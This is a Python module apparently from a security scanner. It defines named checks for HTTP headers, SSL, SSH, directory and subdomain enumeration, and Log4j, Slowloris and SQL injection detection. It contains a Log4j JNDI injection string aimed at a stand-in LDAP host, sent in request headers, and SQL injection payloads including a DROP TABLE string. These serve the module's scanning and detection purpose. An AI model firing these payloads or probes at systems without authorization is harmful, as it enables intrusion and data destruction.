"""
Built-in Security Scripts
=========================

Catalog of named checks run by the script engine. Every action is a
coroutine ``action(context, host, port, service) -> ScriptResult``; it
may raise, the engine turns exceptions into error results and fills in
name, category and duration.

Scripts:
- safe:      http-title, http-headers, ssl-cert, http-methods, robots-txt, ssh-hostkey
- discovery: http-enum, dns-brute
- vuln:      http-vuln-cve2021-44228, http-slowloris
- auth:      http-default-accounts
- intrusive: http-sql-injection
"""

import asyncio
import re
from dataclasses import dataclass
from typing import List, Optional, Sequence, Tuple
from urllib.parse import urlencode

from .exceptions import ProbeError, ProbeOpaqueError
from .models import (
    ScriptCategory,
    ScriptFinding,
    ScriptResult,
    ScriptState,
    SecurityScript,
    Severity,
)
from .target_parser import is_valid_ip
from .transport import DEFAULT_USER_AGENT, build_url


@dataclass
class ScriptContext:
    """
    Collaborators and pacing shared by script actions.

    Attributes:
        transport: Probe transport
        resolver: HostnameResolver used by dns-brute
        timeout_ms: Timeout for a script's main request
        path_timeout_ms: Timeout per enumerated path or endpoint
        batch_delay_ms: Pause between http-enum batches
        dns_delay_ms: Pause between dns-brute lookups
    """
    transport: object
    resolver: Optional[object] = None
    timeout_ms: float = 10000
    path_timeout_ms: float = 3000
    batch_delay_ms: float = 100
    dns_delay_ms: float = 50
    user_agent: str = DEFAULT_USER_AGENT

    async def pause(self, delay_ms: float) -> None:
        if delay_ms > 0:
            await asyncio.sleep(delay_ms / 1000.0)


# =============================================================================
# RULE HELPERS
# =============================================================================

HTTP_PORTS = (80, 443, 8080, 8443)
HTTP_TITLE_PORTS = (80, 443, 8080, 8443, 8000, 3000, 5000, 9000)
LOG4J_PORTS = (80, 443, 8080, 8443, 8000, 9000)
SSL_PORTS = (443, 8443, 993, 995, 465)


def http_rule(ports: Sequence[int] = HTTP_PORTS):
    def rule(port: int, service: Optional[str] = None) -> bool:
        return port in ports or bool(service and service.lower() in ("http", "https"))
    return rule


def ssl_rule(port: int, service: Optional[str] = None) -> bool:
    return port in SSL_PORTS or bool(service and "ssl" in service.lower())


def ssh_rule(port: int, service: Optional[str] = None) -> bool:
    return port == 22 or bool(service and "ssh" in service.lower())


def domain_rule(host: str) -> bool:
    return not is_valid_ip(host)


def _url(host: str, port: Optional[int], path: str = "") -> str:
    return build_url(host, port or 80, path)


def _result(script_id: str, host: str, port: Optional[int], output: str,
            severity: Severity = Severity.INFO, findings: Optional[List[ScriptFinding]] = None,
            state: ScriptState = ScriptState.SUCCESS) -> ScriptResult:
    return ScriptResult(
        script_id=script_id,
        host=host,
        port=port,
        output=output,
        severity=severity,
        state=state,
        findings=findings or [],
    )


# =============================================================================
# SAFE
# =============================================================================

TITLE_PATTERN = re.compile(r"<title[^>]*>([^<]+)</title>", re.IGNORECASE)

SECURITY_HEADERS = (
    "Strict-Transport-Security",
    "Content-Security-Policy",
    "X-Frame-Options",
    "X-Content-Type-Options",
    "X-XSS-Protection",
    "Referrer-Policy",
    "Permissions-Policy",
)

DANGEROUS_METHODS = ("PUT", "DELETE", "TRACE", "CONNECT")


async def http_title(ctx: ScriptContext, host: str, port: Optional[int] = None,
                     service: Optional[str] = None) -> ScriptResult:
    response = await ctx.transport.request("GET", _url(host, port), ctx.timeout_ms)
    match = TITLE_PATTERN.search(response.text)
    title = match.group(1).strip() if match else "No title found"
    return _result("http-title", host, port, f"Title: {title}")


async def http_headers(ctx: ScriptContext, host: str, port: Optional[int] = None,
                       service: Optional[str] = None) -> ScriptResult:
    response = await ctx.transport.request("HEAD", _url(host, port), ctx.timeout_ms, read_body=False)

    present, missing, findings = [], [], []
    for header in SECURITY_HEADERS:
        value = response.header(header)
        if value is not None:
            present.append(f"{header}: {value}")
            continue
        missing.append(header)
        findings.append(ScriptFinding(
            title=f"Missing {header} header",
            description=f"The {header} security header is not present",
            severity=Severity.MEDIUM if header == "Strict-Transport-Security" else Severity.LOW,
            remediation=f"Add the {header} header to improve security",
        ))

    sections = []
    if present:
        sections.append("Present security headers:\n" + "\n".join(present))
    if missing:
        sections.append("Missing security headers:\n" + "\n".join(missing))

    if any(f.severity == Severity.MEDIUM for f in findings):
        severity = Severity.MEDIUM
    elif findings:
        severity = Severity.LOW
    else:
        severity = Severity.INFO
    return _result("http-headers", host, port, "\n\n".join(sections), severity, findings)


async def ssl_cert(ctx: ScriptContext, host: str, port: Optional[int] = None,
                   service: Optional[str] = None) -> ScriptResult:
    url = build_url(host, port or 443, scheme="https")
    try:
        response = await ctx.transport.request("HEAD", url, ctx.timeout_ms, read_body=False, verify=True)
    except ProbeOpaqueError as e:
        findings = []
        if "certificate" in str(e).lower():
            findings.append(ScriptFinding(
                title="SSL Certificate Issue",
                description="SSL certificate validation failed",
                severity=Severity.MEDIUM,
                remediation="Check SSL certificate validity and configuration",
            ))
        return _result("ssl-cert", host, port, f"SSL connection failed: {e}",
                       Severity.MEDIUM if findings else Severity.INFO, findings, ScriptState.ERROR)

    output = (f"SSL/TLS connection established\n"
              f"Certificate validation: {'Valid' if response.ok else 'Invalid'}\n"
              f"Protocol: HTTPS\n"
              f"Port: {port}")
    return _result("ssl-cert", host, port, output)


async def http_methods(ctx: ScriptContext, host: str, port: Optional[int] = None,
                       service: Optional[str] = None) -> ScriptResult:
    response = await ctx.transport.request("OPTIONS", _url(host, port), ctx.timeout_ms, read_body=False)
    allow = response.header("Allow")
    if not allow:
        return _result("http-methods", host, port, "No Allow header found in OPTIONS response")

    methods = [m.strip().upper() for m in allow.split(",") if m.strip()]
    dangerous = [m for m in methods if m in DANGEROUS_METHODS]
    findings = []
    if dangerous:
        findings.append(ScriptFinding(
            title="Dangerous HTTP Methods Enabled",
            description=f"Potentially dangerous HTTP methods are enabled: {', '.join(dangerous)}",
            severity=Severity.MEDIUM,
            remediation="Disable unnecessary HTTP methods on the web server",
        ))
    return _result("http-methods", host, port, f"Allowed methods: {allow}",
                   Severity.MEDIUM if findings else Severity.INFO, findings)


async def robots_txt(ctx: ScriptContext, host: str, port: Optional[int] = None,
                     service: Optional[str] = None) -> ScriptResult:
    response = await ctx.transport.request("GET", _url(host, port, "/robots.txt"), ctx.timeout_ms)
    if not 200 <= response.status_code < 300:
        return _result("robots-txt", host, port, "robots.txt not found")

    content = response.text
    paths = [line.strip() for line in re.findall(r"Disallow:\s*(.+)", content, re.IGNORECASE)]
    interesting = [p for p in paths if p and p not in ("/", "*")]
    findings = []
    if interesting:
        findings.append(ScriptFinding(
            title="Interesting paths in robots.txt",
            description=f"Found potentially interesting paths: {', '.join(interesting[:5])}",
            severity=Severity.INFO,
            remediation="Review if sensitive paths should be listed in robots.txt",
        ))
    excerpt = content[:500] + ("..." if len(content) > 500 else "")
    return _result("robots-txt", host, port, f"robots.txt found:\n{excerpt}", findings=findings)


async def ssh_hostkey(ctx: ScriptContext, host: str, port: Optional[int] = None,
                      service: Optional[str] = None) -> ScriptResult:
    port = port or 22
    result = await ctx.transport.connect(host, port, ctx.timeout_ms, read_banner=True)
    lines = [f"SSH service detected on {host}:{port}"]
    if result.banner:
        lines.append(f"Server identification: {result.banner.splitlines()[0]}")
    lines.append("Host key exchange is not performed by application-layer probes")
    lines.append("Recommendation: Use a native SSH client for full host key analysis")
    return _result("ssh-hostkey", host, port, "\n".join(lines))


# =============================================================================
# DISCOVERY
# =============================================================================

ENUM_PATHS = (
    "/admin", "/administrator", "/login", "/wp-admin", "/phpmyadmin",
    "/backup", "/config", "/test", "/dev", "/api", "/docs", "/swagger",
    "/robots.txt", "/sitemap.xml", "/.git", "/.env", "/package.json",
)
SENSITIVE_MARKERS = (".git", ".env", "package.json", "config")
ENUM_BATCH_SIZE = 3

SUBDOMAINS = (
    "www", "mail", "ftp", "admin", "api", "dev", "test", "staging",
    "blog", "shop", "cdn", "static", "assets", "img", "images",
)


async def http_enum(ctx: ScriptContext, host: str, port: Optional[int] = None,
                    service: Optional[str] = None) -> ScriptResult:
    async def check(path: str) -> Optional[Tuple[str, int]]:
        try:
            response = await ctx.transport.request("HEAD", _url(host, port, path),
                                                   ctx.path_timeout_ms, read_body=False)
        except ProbeError:
            return None
        return (path, response.status_code) if response.ok else None

    found, findings = [], []
    for index in range(0, len(ENUM_PATHS), ENUM_BATCH_SIZE):
        batch = ENUM_PATHS[index:index + ENUM_BATCH_SIZE]
        for hit in await asyncio.gather(*(check(path) for path in batch)):
            if hit is None:
                continue
            path, status = hit
            found.append(f"{path} ({status})")
            if any(marker in path for marker in SENSITIVE_MARKERS):
                findings.append(ScriptFinding(
                    title=f"Sensitive file exposed: {path}",
                    description="Potentially sensitive file or directory is accessible",
                    severity=Severity.MEDIUM,
                    remediation=f"Restrict access to {path} or remove if not needed",
                ))
        if index + ENUM_BATCH_SIZE < len(ENUM_PATHS):
            await ctx.pause(ctx.batch_delay_ms)

    output = ("Found accessible paths:\n" + "\n".join(found)) if found else "No common directories found"
    return _result("http-enum", host, port, output,
                   Severity.MEDIUM if findings else Severity.INFO, findings)


async def dns_brute(ctx: ScriptContext, host: str, port: Optional[int] = None,
                    service: Optional[str] = None) -> ScriptResult:
    if ctx.resolver is None:
        raise RuntimeError("dns-brute requires a hostname resolver")

    found = []
    for subdomain in SUBDOMAINS:
        name = f"{subdomain}.{host}"
        records = await ctx.resolver.query(name, "A")
        if records:
            found.append(f"{name} -> {records[0].value}")
        await ctx.pause(ctx.dns_delay_ms)

    findings = []
    if found:
        findings.append(ScriptFinding(
            title="Subdomains discovered",
            description=f"Found {len(found)} subdomains that may expand attack surface",
            severity=Severity.INFO,
            remediation="Review subdomain security and ensure proper access controls",
        ))
    output = ("Found subdomains:\n" + "\n".join(found)) if found else "No common subdomains found"
    return _result("dns-brute", host, None, output, findings=findings)


# =============================================================================
# VULN / AUTH / INTRUSIVE
# =============================================================================

LOG4J_PAYLOAD = "${jndi:ldap://recon-phantom.test/test}"
LOG4J_ENDPOINTS = ("/", "/login", "/api/login", "/search")
LOG4J_MARKERS = ("log4j", "jndi", "ldap://")

SLOWLORIS_SERVERS = ("Apache/2.0", "Apache/2.2", "nginx/0.", "nginx/1.0")

LOGIN_ENDPOINTS = ("/login", "/admin", "/administrator", "/wp-admin", "/manager/html")

SQL_PAYLOADS = ("'", "1'OR'1'='1", "'; DROP TABLE users; --")
SQL_ENDPOINTS = ("/", "/search", "/login", "/api/search")
SQL_ERRORS = (
    "SQL syntax error",
    "mysql_fetch_array",
    "ORA-01756",
    "Microsoft OLE DB Provider",
    "PostgreSQL query failed",
    "SQLite error",
)


async def log4j_check(ctx: ScriptContext, host: str, port: Optional[int] = None,
                      service: Optional[str] = None) -> ScriptResult:
    headers = {
        "User-Agent": f"{ctx.user_agent} Log4j-Test-{LOG4J_PAYLOAD}",
        "X-Forwarded-For": LOG4J_PAYLOAD,
        "X-Real-IP": LOG4J_PAYLOAD,
    }
    suspicious = []
    for endpoint in LOG4J_ENDPOINTS:
        try:
            response = await ctx.transport.request("GET", _url(host, port, endpoint),
                                                   min(ctx.timeout_ms, 5000), headers=headers)
        except ProbeError:
            continue
        server = (response.header("Server") or "").lower()
        if any(marker in response.text for marker in LOG4J_MARKERS) or "log4j" in server:
            suspicious.append(endpoint)

    findings = []
    if suspicious:
        findings.append(ScriptFinding(
            title="Potential Log4j RCE Vulnerability (CVE-2021-44228)",
            description="Server may be vulnerable to Log4j remote code execution",
            severity=Severity.CRITICAL,
            remediation="Update Log4j to version 2.17.1 or later, or apply mitigations",
            cve="CVE-2021-44228",
            cvss=10.0,
        ))
        output = (f"Potential Log4j vulnerability detected on endpoints: {', '.join(suspicious)}\n"
                  "This is a CRITICAL vulnerability that allows remote code execution.")
    else:
        output = "No obvious Log4j vulnerability patterns detected"
    return _result("http-vuln-cve2021-44228", host, port, output,
                   Severity.CRITICAL if findings else Severity.INFO, findings)


async def slowloris_check(ctx: ScriptContext, host: str, port: Optional[int] = None,
                          service: Optional[str] = None) -> ScriptResult:
    response = await ctx.transport.request(
        "GET", _url(host, port), ctx.timeout_ms,
        headers={"Connection": "keep-alive", "User-Agent": f"{ctx.user_agent} Slowloris-Test"},
        read_body=False,
    )
    server = response.header("Server") or ""
    vulnerable = any(version in server for version in SLOWLORIS_SERVERS)
    findings = []
    if vulnerable:
        findings.append(ScriptFinding(
            title="Potentially vulnerable to Slowloris DoS",
            description=f"Server version ({server}) may be vulnerable to Slowloris attacks",
            severity=Severity.MEDIUM,
            remediation="Update web server or configure connection limits and timeouts",
        ))
        output = (f"Server may be vulnerable to Slowloris DoS attacks\nServer: {server}\n"
                  "Recommendation: Configure proper connection limits and timeouts")
    else:
        output = f"Server appears to have protections against Slowloris\nServer: {server}"
    return _result("http-slowloris", host, port, output,
                   Severity.MEDIUM if findings else Severity.INFO, findings)


async def default_accounts(ctx: ScriptContext, host: str, port: Optional[int] = None,
                           service: Optional[str] = None) -> ScriptResult:
    findings = []
    for endpoint in LOGIN_ENDPOINTS:
        try:
            response = await ctx.transport.request("GET", _url(host, port, endpoint),
                                                   min(ctx.timeout_ms, 5000))
        except ProbeError:
            continue
        content = response.text
        if response.ok and "<form" in content and ("password" in content or "login" in content):
            findings.append(ScriptFinding(
                title=f"Login interface found: {endpoint}",
                description="Login interface detected - verify strong authentication is enforced",
                severity=Severity.LOW,
                remediation="Ensure strong passwords, account lockout, and MFA are configured",
            ))

    if findings:
        output = (f"Found {len(findings)} login interfaces\n"
                  "Recommendation: Verify strong authentication controls are in place")
    else:
        output = "No obvious login interfaces found"
    return _result("http-default-accounts", host, port, output,
                   Severity.LOW if findings else Severity.INFO, findings)


async def sql_injection(ctx: ScriptContext, host: str, port: Optional[int] = None,
                        service: Optional[str] = None) -> ScriptResult:
    findings = []
    for endpoint in SQL_ENDPOINTS:
        for payload in SQL_PAYLOADS:
            url = _url(host, port, f"{endpoint}?{urlencode({'q': payload})}")
            try:
                response = await ctx.transport.request("GET", url, min(ctx.timeout_ms, 5000))
            except ProbeError:
                continue
            content = response.text.lower()
            if any(error.lower() in content for error in SQL_ERRORS):
                findings.append(ScriptFinding(
                    title="Potential SQL Injection vulnerability",
                    description=f"SQL error detected on {endpoint} with payload: {payload}",
                    severity=Severity.HIGH,
                    remediation="Use parameterized queries and input validation",
                    references=("https://owasp.org/www-community/attacks/SQL_Injection",),
                ))
                break

    if findings:
        output = ("POTENTIAL SQL INJECTION VULNERABILITIES FOUND!\n"
                  + "\n".join(f.description for f in findings)
                  + "\n\nThis is a HIGH SEVERITY finding that requires immediate attention.")
    else:
        output = "No obvious SQL injection vulnerabilities detected"
    return _result("http-sql-injection", host, port, output,
                   Severity.HIGH if findings else Severity.INFO, findings)


# =============================================================================
# CATALOG
# =============================================================================

BUILTIN_SCRIPTS: Tuple[SecurityScript, ...] = (
    SecurityScript("http-title", "HTTP Title", ScriptCategory.SAFE, http_title,
                   "Retrieves the title of web pages", port_rule=http_rule(HTTP_TITLE_PORTS)),
    SecurityScript("http-headers", "HTTP Security Headers", ScriptCategory.SAFE, http_headers,
                   "Checks for security-related HTTP headers", port_rule=http_rule()),
    SecurityScript("ssl-cert", "SSL Certificate Info", ScriptCategory.SAFE, ssl_cert,
                   "Retrieves SSL certificate information", port_rule=ssl_rule),
    SecurityScript("http-methods", "HTTP Methods", ScriptCategory.SAFE, http_methods,
                   "Checks which HTTP methods are allowed", port_rule=http_rule()),
    SecurityScript("robots-txt", "Robots.txt", ScriptCategory.SAFE, robots_txt,
                   "Retrieves and analyzes robots.txt file", port_rule=http_rule()),
    SecurityScript("ssh-hostkey", "SSH Host Key", ScriptCategory.SAFE, ssh_hostkey,
                   "Retrieves SSH host key information", port_rule=ssh_rule),
    SecurityScript("http-enum", "HTTP Directory Enumeration", ScriptCategory.DISCOVERY, http_enum,
                   "Enumerates common directories and files", port_rule=http_rule()),
    SecurityScript("dns-brute", "DNS Subdomain Brute Force", ScriptCategory.DISCOVERY, dns_brute,
                   "Attempts to discover subdomains", host_rule=domain_rule),
    SecurityScript("http-vuln-cve2021-44228", "Log4j RCE Detection (CVE-2021-44228)",
                   ScriptCategory.VULN, log4j_check,
                   "Detects potential Log4j RCE vulnerability", port_rule=http_rule(LOG4J_PORTS)),
    SecurityScript("http-slowloris", "Slowloris DoS Vulnerability", ScriptCategory.VULN, slowloris_check,
                   "Tests for Slowloris denial of service vulnerability", port_rule=http_rule()),
    SecurityScript("http-default-accounts", "Default Account Detection", ScriptCategory.AUTH,
                   default_accounts, "Checks for default login credentials", port_rule=http_rule()),
    SecurityScript("http-sql-injection", "SQL Injection Detection", ScriptCategory.INTRUSIVE,
                   sql_injection, "Tests for SQL injection vulnerabilities (intrusive)",
                   port_rule=http_rule()),
)
